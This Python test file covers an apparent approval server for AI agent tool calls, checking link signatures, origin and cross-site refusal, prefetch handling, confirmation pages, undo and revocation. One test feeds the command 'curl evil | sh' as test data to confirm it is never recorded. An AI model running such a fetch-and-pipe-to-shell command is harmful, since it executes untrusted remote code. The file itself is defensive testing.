"""Routes, parameters and replies over a desk that only writes down what it is told."""

from __future__ import annotations

import json
from urllib.parse import urlencode

from feishuperm.handlers.callback import MAX_SLOW
from feishuperm.lib.process_tree import Owner
from feishuperm.models import ask as statuses
from feishuperm.models.ask import Answer, Block, Receipt
from feishuperm.models.kind import KINDS, Kind
from feishuperm.services.web_access import Links
from tests import asks
from tests.handlers.gates import AGENT, LOCAL, OTHER
from tests.handlers.pages.page import ID, Page, make_ask, make_outcome
from tests.handlers.site import (
    BROWSER,
    LINKS,
    NAVIGATES,
    OWN_PAGE,
    PUBLIC_SITE,
    Asked,
    Site,
    site,
    told,
)
from tests.kinds import buttons, extra
from tests.tables import every_row

__all__ = ["extra"]
PHONE = {"sec-fetch-mode": "navigate", "sec-fetch-dest": "document"}
PREVIEW = {"user-agent": "Slackbot-LinkExpanding 1.0"}


# Taps.


@every_row("kind", list(KINDS))
def test_every_action_of_a_kind_has_a_route_and_is_handed_to_the_desk(
    kind: str,
) -> None:
    for row in KINDS[kind].actions:
        here = site(kind)
        response = here.tap(row.path)
        if row.needs:
            assert here.desk.answers == []
            assert row.path[1:] in Page(response.body).forms
        else:
            assert here.desk.answers == [Answer(ID, row.name, surface="link")]
            assert "操作成功" in told(response)
        assert response.status == 200


def test_link_alone_allows_what_was_asked_and_never_writes_what_runs() -> None:
    """Whoever is in a group with the bot has the link of its cards."""
    here = site(**PUBLIC_SITE)
    page = Page(here.tap("/request", **BROWSER).body)
    assert "allow" in page.forms and "edit" not in page.forms
    response = here.press("/edit", command="curl evil | sh", headers=OWN_PAGE)
    assert here.desk.answers == [] and b"evil" not in response.body
    cookie = here.sessions.open("127.0.0.1", "phone").partition(";")[0]
    known = {**BROWSER, "cookie": cookie}
    assert "edit" in Page(here.tap("/request", **known).body).forms
    here.press("/edit", command="ls -l", headers={**OWN_PAGE, "cookie": cookie})
    assert [answer.action for answer in here.desk.answers] == ["edit"]


def test_link_of_an_action_the_kind_does_not_have_shows_the_page() -> None:
    here = site("plan")
    assert "批准计划" in told(here.tap("/always"))
    assert "批准计划" in told(here.press("/answer"))
    assert here.desk.answers == []


@every_row(
    "headers",
    [
        PREVIEW,
        {"purpose": "prefetch"},
        {"sec-fetch-dest": "image", "sec-fetch-site": "cross-site"},
    ],
)
def test_machine_gets_a_page_whose_button_decides(headers: dict[str, str]) -> None:
    here = site()
    response = here.tap("/allow", **headers)
    assert "请确认操作" in told(response)
    assert Page(response.body).button("allow") == "批准运行"
    assert here.desk.answers == []


def test_head_decides_nothing_and_nothing_counts_as_seen() -> None:
    here = site()
    for path in ("/allow", "/request"):
        here.send("HEAD", LINKS.path(path, ID))
    here.send("HEAD", "/")
    here.tap("/request", **PREVIEW)
    assert here.desk.answers == [] and here.desk.seen == []
    here.tap("/request", **PHONE)
    assert here.desk.seen == [ID]


def test_confirmation_shows_the_page_for_every_action() -> None:
    here = site(CALLBACK_CONFIRM="on")
    for path in ("/allow", "/always", "/deny", "/interrupt"):
        assert "请确认操作" in told(here.tap(path))
    assert here.desk.answers == []


@every_row("method", ["GET", "POST"])
def test_wrong_signature_is_an_unknown_request(method: str) -> None:
    here = site()
    body = urlencode({"id": ID, "sig": LINKS.signature("/deny", ID)})
    query = f"?{body}" if method == "GET" else ""
    response = here.send(method, "/allow" + query, body)
    assert response.status == 404
    assert "请求无效或已过期" in told(response)
    assert here.desk.answers == []


def test_link_without_id_is_a_bad_request() -> None:
    assert site().send("GET", "/allow").status == 400


# Presses and forms.


def test_press_carries_what_was_filled_in_and_no_more() -> None:
    here = site()
    here.press("/deny", reason="tests first", digest="d1", confirmed="1")
    values = {"reason": ("tests first",)}
    answer = Answer(ID, "deny", values, "page", digest="d1", confirmed=True)
    assert here.desk.answers == [answer]


def test_several_choices_of_one_field_arrive_in_order() -> None:
    here = site("question")
    here.press("/answer", q0=["S", "L"], q0_other="XL")
    assert here.desk.answers[0].values == {"q0": ("S", "L"), "q0_other": ("XL",)}


def test_press_in_the_inbox_is_answered_in_place() -> None:
    here = site()
    response = here.press("/allow", headers={"x_feishuperm": "1"})
    assert here.desk.answers[0].surface == "inbox"
    reply = json.loads(response.body)
    assert reply["over"] and "已批准运行" in reply["html"]


@every_row("path", ["/allow", "/always", "/minutes", "/session"])
def test_changed_command_and_another_button_do_nothing(path: str) -> None:
    """Nobody changes a command and has the old one run."""
    here = site()
    changed = "npm run build --fast"
    for headers in ({}, {"x_feishuperm": "1"}):
        said = here.press(path, command=changed, headers=headers)
        assert said.status == 400
        shown = json.loads(said.body)["html"] if headers else told(said)
        assert "命令已修改，请点“修改后批准”" in shown
    assert here.desk.answers == []
    assert changed in told(here.press(path, command=changed)), "it is still there"
    here.press("/deny", command=changed)
    here.press(path, command="npm run build")
    here.press("/edit", command=changed)
    done = [answer.action for answer in here.desk.answers]
    assert done == ["deny", path[1:], "edit"]


def test_page_asks_once_more_about_a_call_with_a_mark() -> None:
    here = Site(Asked(make_ask(dangers=("删除",))))
    asked = Page(here.press("/allow").body)
    assert "请确认操作" in asked.text and "带有危险标记" in asked.text
    assert asked.form("allow")["confirmed"] == "1"
    in_place = here.press("/allow", headers={"x_feishuperm": "1"})
    assert "带有危险标记" in json.loads(in_place.body)["html"]
    assert here.desk.answers == []
    here.press("/allow", confirmed="1")
    here.press("/deny")
    assert [answer.action for answer in here.desk.answers] == ["allow", "deny"]


def test_request_beside_the_list_is_a_part_of_a_page_and_counts_as_no_visit() -> None:
    here = site()
    part = here.tap("/request", x_feishuperm="1", sec_fetch_mode="cors")
    assert part.body.startswith(b"<article") and "allow" in Page(part.body).forms
    assert here.desk.seen == here.desk.held == []


@every_row(
    "headers",
    [{"origin": "https://evil.test"}, {"origin": "null"}],
)
def test_form_of_another_site_is_refused(headers: dict[str, str]) -> None:
    here = site()
    assert here.press("/allow", headers=headers).status == 403
    assert here.desk.answers == []


# What the desk says.


@every_row(
    ("receipt", "status", "page"),
    [
        (Receipt(statuses.SETTLED, make_outcome()), 200, "操作成功"),
        (Receipt(statuses.ENDED, make_outcome()), 200, "请求无效或已过期"),
        (Receipt(statuses.UNKNOWN), 404, "请求无效或已过期"),
        (Receipt(statuses.INCOMPLETE, error="请至少"), 400, "请至少"),
        (Receipt(statuses.CONFIRM, error="任何调用"), 200, "任何调用"),
        (Receipt(statuses.REFUSED, error="来自会话本身"), 403, "来自会话本身"),
    ],
)
def test_each_receipt_has_its_page_and_its_json(
    receipt: Receipt, status: int, page: str
) -> None:
    here = site()
    here.desk.receipt = receipt
    pressed = here.press("/always")
    assert (pressed.status, page in told(pressed)) == (status, True)
    in_place = here.press("/always", headers={"x_feishuperm": "1"})
    assert in_place.status == status
    said = json.loads(in_place.body)["html"]
    succeeded = "已批准运行" in said and "请求无效" not in said
    assert succeeded is (receipt.status == statuses.SETTLED)


def test_words_to_agree_to_come_back_with_the_next_press() -> None:
    here = site()
    here.desk.receipt = Receipt(statuses.CONFIRM, error="任何调用")
    form = Page(here.tap("/always").body).form("always")
    assert form["confirmed"] == "1"
    assert form["sig"] == LINKS.signature("/always", ID)


def test_incomplete_answer_comes_back_as_it_was_filled_in() -> None:
    here = site("question")
    here.desk.receipt = Receipt(statuses.INCOMPLETE, error="请至少回答一个问题")
    response = here.press("/deny", reason="not <now>")
    assert Page(response.body).all("input", name="reason", value="not <now>")


# Requests that are on their way back.


def test_good_link_waits_for_a_hook_that_returns_to_a_new_server() -> None:
    here = Site()
    assert here.tap("/allow").status == 0  # not answered yet
    here.wait()
    assert here.replies == []
    here.desk.asked[ID] = Asked(make_ask())
    here.wait()
    assert "操作成功" in told(here.replies[0])
    assert [answer.action for answer in here.desk.answers] == ["allow"]


def test_request_that_does_not_come_back_is_asked_for_again_and_never_unknown() -> None:
    here = Site()
    here.tap("/allow")
    while not here.replies:
        here.wait()
    assert here.time < 4
    assert here.replies[0].status == 503
    assert "没有做任何决定" in told(here.replies[0])
    assert dict(here.replies[0].headers)["Refresh"] == "2"
    here.press("/deny")
    while not here.replies:
        here.wait()
    assert "Refresh" not in dict(here.replies[0].headers)


def test_good_link_of_a_forgotten_request_is_gone_and_a_bad_one_waits_for_nothing() -> (
    None
):
    here = Site()
    assert here.send("GET", f"/allow?id={ID}&sig=bad").status == 404
    here.time = 60.0
    gone = here.tap("/allow")
    assert gone.status == 410
    assert "请求无效或已过期" in told(gone)


def test_waiting_for_hooks_is_bounded() -> None:
    here = Site()
    statuses_seen = [here.tap("/allow").status for _ in range(MAX_SLOW + 1)]
    assert statuses_seen == [0] * MAX_SLOW + [503]


# Large pages.


def test_large_page_is_made_over_several_turns_and_whole() -> None:
    text = "<x>" * 1_000_000
    here = Site(Asked(make_ask(blocks=(Block("code", "", text),))))
    ticking = iter(range(10**9))
    here.callback._slow._ticks = lambda: next(ticking) * 0.004
    assert here.tap("/request").status == 0
    turns = 0
    while not here.replies:
        here.wait()
        turns += 1
    assert turns > 20
    assert text in told(here.replies[0])


# Requests that have ended.


def test_ended_request_is_never_handed_to_the_desk_again() -> None:
    here = Site(Asked(make_ask(), ended=True))
    for response in (here.tap("/allow"), here.press("/allow")):
        assert response.status == 200
        assert "已拒绝运行" in told(response)
    in_place = here.press("/allow", headers={"x_feishuperm": "1"})
    assert "请求无效或已过期" in json.loads(in_place.body)["html"]
    assert here.desk.answers == []


def test_page_of_an_ended_request_is_a_record() -> None:
    page = Page(Site(Asked(make_ask(), ended=True)).tap("/request").body)
    assert "npm run build" in page.text and "已拒绝运行" in page.text
    assert not page.all("form")


def test_request_of_which_only_its_end_is_known_shows_that() -> None:
    here = Site(Asked(make_ask(), ended=True, raw=b""))
    assert "已拒绝运行" in told(here.tap("/request"))
    assert here.desk.made == 0


# Routes.


@every_row(
    ("method", "path", "status"),
    [
        ("GET", "/nothing", 404),
        ("POST", "/request", 405),
        ("PUT", "/allow", 405),
        ("GET", "/healthz", 200),
        ("HEAD", "/healthz", 200),
        ("POST", "/healthz", 405),
    ],
)
def test_wrong_paths_and_methods_are_refused(
    method: str, path: str, status: int
) -> None:
    response = site().send(method, path)
    assert response.status == status
    if status == 405:
        assert "HEAD" in dict(response.headers)["Allow"]


def test_kind_and_button_of_tomorrow_need_no_line_here(extra: Kind) -> None:
    ask = asks.make_ask("TripTool", {"to": "Rome"}, id=ID)
    here = Site(Asked(ask))
    page = Page(here.tap("/request").body)
    assert "行程" in page.text and "Rome" in page.text
    assert page.button("later") == "以后再说"
    part = Page(here.tap("/request", x_feishuperm="1").body)
    assert part.button("later") == "以后再说"
    assert part.all("button", **{"data-key": "l"})
    assert f'id="row-{ID}"'.encode() in here.send("GET", "/").body
    assert "操作成功" in told(here.tap("/later"))
    here.press("/later")
    surfaces = [(answer.action, answer.surface) for answer in here.desk.answers]
    assert surfaces == [("later", "link"), ("later", "page")]


def test_button_of_tomorrow_is_on_old_requests_too(extra: Kind) -> None:
    here = Site(Asked(asks.make_ask("Bash", id=ID)))
    names = {action.name for action in buttons()}
    assert "later" in names
    assert set(Page(here.tap("/request").body).forms) == names


# Who is let in.


@every_row(
    ("headers", "status"),
    [
        ({"host": "rebound.example:8080"}, 421),
        ({"origin": "https://evil.test"}, 403),
        ({"origin": "null"}, 403),
        ({"connection": "Upgrade", "upgrade": "websocket"}, 400),
    ],
)
@every_row("path", ["/allow", "/", "/status", "/events", "/undo", "/healthz"])
def test_hostile_page_gets_nothing_on_any_route(
    path: str, headers: dict[str, str], status: int
) -> None:
    place = site()
    target = LINKS.path(path, ID)
    assert place.send("GET", target, **headers).status == status
    assert not place.desk.answers and not place.desk.seen


@every_row("owner", [OTHER, None])
def test_other_user_of_this_machine_gets_nothing_with_a_good_link(
    owner: Owner | None,
) -> None:
    place = site()
    place.owners.owner = owner
    for path in ("/allow", "/deny", "/request"):
        assert place.tap(path).status == 403
    assert place.press("/allow").status == place.press("/undo").status == 403
    for path in ("/", "/status", "/events", LINKS.path("/events", ID)):
        assert place.send("GET", path).status == 403
    assert not place.inbox.streams and not place.desk.undone
    assert place.send("GET", "/healthz").status == 200
    assert not place.desk.answers and not place.desk.seen


def test_session_that_asks_is_refused_and_named() -> None:
    place = site()
    place.clients.answer = AGENT
    refused = place.tap("/allow")
    assert refused.status == 403 and "curl (pid 51)" in told(refused)
    assert place.press("/always", headers={"x_feishuperm": "1"}).status == 403
    for path in ("/", "/status", "/events", LINKS.path("/events", ID)):
        assert place.send("GET", path).status == 403
    assert place.press("/undo").status == 403
    assert not place.inbox.streams and not place.desk.undone
    assert not place.desk.answers and not place.desk.seen
    assert place.desk.refused[:2] == [
        (ID, "allow", "curl (pid 51)"),
        (ID, "always", "curl (pid 51)"),
    ]
    place.clients.answer = None
    assert place.tap("/allow").status == 200
    assert len(place.desk.answers) == 1


def test_wrong_unsigned_ids_of_a_page_do_not_shut_out_the_chat() -> None:
    place = site(CALLBACK_LINK_SIGNING="off")
    place.callback._links = Links(LOCAL, b"", False)
    page = {"sec_fetch_site": "cross-site", **BROWSER, **NAVIGATES}
    for _ in range(30):
        place.send("GET", "/allow?id=wrong", **page)
    assert place.send("GET", f"/allow?id={ID}", **page).status == 429
    tap = {**page, "sec_fetch_site": "none"}
    assert place.send("GET", f"/allow?id={ID}", **tap).status == 200


@every_row("path", ["/", "/events", "/sessions"])
def test_inbox_that_is_switched_off_opens_to_nobody(path: str) -> None:
    away = Site(Asked(make_ask()), FEISHUPERM_SURFACES="app")
    assert away.send("GET", path).status == 403
    assert not away.inbox.streams


def test_page_offers_nothing_where_pages_may_not_answer() -> None:
    away = Site(Asked(make_ask()), FEISHUPERM_SURFACES="app")
    page = Page(away.tap("/request").body)
    assert page.all("form") == page.all("button") == []
    assert "npm run build" in page.text


# Reading.


@every_row("path", ["/request", "/answer"])
def test_opening_a_request_stops_its_clock(path: str) -> None:
    here = site("question")
    assert here.tap(path, **PHONE).status == 200
    assert (here.desk.held, here.desk.seen) == ([ID], [ID])


def test_page_that_asks_before_it_allows_stops_the_clock_too() -> None:
    here = Site(Asked(make_ask()), CALLBACK_CONFIRM="on")
    here.tap("/allow", **PHONE)
    assert (here.desk.held, here.desk.answers) == ([ID], [])


@every_row("headers", [PREVIEW, {"purpose": "prefetch"}, {"sec-purpose": "prefetch"}])
def test_preview_and_prefetch_stop_no_clock(headers: dict[str, str]) -> None:
    here = site("permission")
    for path in ("/request", "/allow", "/always"):
        here.tap(path, **headers)
        here.send("HEAD", LINKS.path(path, ID))
    assert (here.desk.held, here.desk.seen) == ([], [])


def test_hold_button_stops_the_clock_and_shows_the_request() -> None:
    here = site("permission")
    assert "批准运行" in told(here.press("/hold"))
    response = here.press("/hold", headers={"x-feishuperm": "1"})
    assert json.loads(response.body) == {"over": False, "held": True}
    assert here.desk.held == [ID, ID]
    assert here.desk.answers == []


def test_hold_is_a_form_of_ours_with_a_signature_of_its_own() -> None:
    here = site("permission")
    form = {"id": ID, "sig": LINKS.signature("/request", ID)}
    assert here.send("POST", "/hold", urlencode(form)).status == 404
    assert here.tap("/hold").status == 405
    foreign = {"sec-fetch-site": "cross-site", "origin": "https://evil.example"}
    assert here.press("/hold", headers=foreign).status == 403
    assert here.desk.held == []


def test_page_after_a_pass_was_made_has_the_button_that_ends_it() -> None:
    asked = Asked(asks.make_ask("Bash", id=ID))
    asked.grants = {"id": "ab12cd34"}
    here = Site(asked)
    made = here.press("/minutes", confirmed="1")
    assert "撤销" in made.body.decode() and "revoke" in Page(made.body).forms
    gone = here.press("/revoke")
    assert gone.status == 200 and "已撤销 1 张通行证" in gone.body.decode()
    assert here.desk.revoked == [("ab12cd34", "page")]


def test_nobody_revokes_without_the_link_or_what_was_never_made() -> None:
    asked = Asked(asks.make_ask("Bash", id=ID))
    here = Site(asked)
    assert here.press("/revoke").status != 500
    asked.grants = {"id": "ab12cd34"}
    here.press("/revoke", sig="0" * 32)
    evil = {"origin": "https://evil.example"}
    assert here.press("/revoke", headers=evil).status == 403
    assert not here.desk.revoked


# After the decision.


def test_page_of_a_request_follows_it_by_a_link_of_its_own() -> None:
    place = site()
    page = Page(place.tap("/request").body)
    (main,) = page.all("main")
    assert main["data-events"] == LINKS.path("/events", ID)[1:]
    place.send("GET", LINKS.path("/events", ID))
    (event,) = place.inbox.followed
    assert event.startswith(b"event: state\ndata: ") and event.endswith(b"\n\n")
    assert json.loads(event.partition(b"data: ")[2]) == {"waits": True, "left": 30}
    assert not place.desk.answers


def test_page_that_follows_is_told_the_end_and_what_came_of_it() -> None:
    place = Site(Asked(make_ask(), ended=True))
    place.send("GET", LINKS.path("/events", ID))
    (event,) = place.inbox.followed
    told = json.loads(event.partition(b"data: ")[2])
    assert told["waits"] is False
    assert "已拒绝运行" in told["html"]


@every_row(
    "target",
    [
        f"/events?id={ID}",
        f"/events?id={ID}&sig=0000",
        f"/events?id={ID}&sig=" + LINKS.signature("/request", ID),
        f"/events?id={ID}&sig=" + LINKS.signature("/allow", ID),
        "/events?id=1700000000-00000000&sig="
        + LINKS.signature("/events", "1700000000-00000000"),
    ],
)
def test_nobody_follows_a_request_without_its_link(target: str) -> None:
    place = site(**PUBLIC_SITE)
    place.time = 60.0
    headers = {"host": "box.example", **BROWSER}
    assert place.send("GET", target, **headers).status == 403
    assert not place.inbox.streams


@every_row("site_of", ["cross-site", "same-site"])
def test_page_elsewhere_follows_nothing_and_takes_nothing_back(site_of: str) -> None:
    place = site()
    headers = {"sec_fetch_site": site_of}
    assert place.send("GET", LINKS.path("/events", ID), **headers).status == 403
    assert place.press("/undo", headers=headers).status == 403
    assert not place.inbox.streams and not place.desk.undone


def test_undo_is_a_press_and_never_a_link() -> None:
    place = site()
    assert place.tap("/undo").status == 405
    assert not place.desk.undone
    assert "已撤销" in told(place.press("/undo"))
    assert place.desk.undone == [(ID, "page")]


@every_row("path", ["/allow", "/always", "/deny", "/request", "/events"])
def test_link_for_something_else_takes_nothing_back(path: str) -> None:
    place = site()
    form = {"id": ID, "sig": LINKS.signature(path, ID)}
    assert place.send("POST", "/undo", urlencode(form)).status == 404
    assert not place.desk.undone


def test_undo_that_is_refused_says_why() -> None:
    place = site()
    place.desk.receipt = Receipt(statuses.REFUSED, error="not here")
    refused = place.press("/undo")
    assert refused.status == 403 and "not here" in told(refused)


@every_row("masks", [{"veiled": True}, {}])
def test_link_of_a_masked_request_leads_to_its_page(masks: dict[str, bool]) -> None:
    """One tap grants nothing that the card has not shown whole."""
    here = Site(Asked(make_ask(masked=True, **masks)), CALLBACK_CONFIRM="off")
    here.tap("/always")
    assert here.desk.answers == []
    response = here.tap("/allow")
    assert response.status == 200
    done = [answer.action for answer in here.desk.answers]
    assert done == ([] if masks else ["allow"])
    here.tap("/deny")
    assert here.desk.answers[-1].action == "deny"


@every_row("confirm", ["auto", "on", "off"])
def test_always_from_a_group_link_is_not_done_without_a_confirmation(
    confirm: str,
) -> None:
    """One tap may be wanted for this once; what lasts has a page of its own."""
    public = "https://perm.example"
    here = Site(Asked(make_ask()), CALLBACK_SERVER_URL=public, CALLBACK_CONFIRM=confirm)
    phone = {**PHONE, **BROWSER, "host": "perm.example"}
    response = here.tap("/always", **phone)
    assert response.status == 200 and here.desk.answers == []
    assert "请确认操作" in told(response) and "始终允许" in told(response)
    here.tap("/allow", **phone)
    done = [answer.action for answer in here.desk.answers]
    assert done == (["allow"] if confirm == "off" else [])
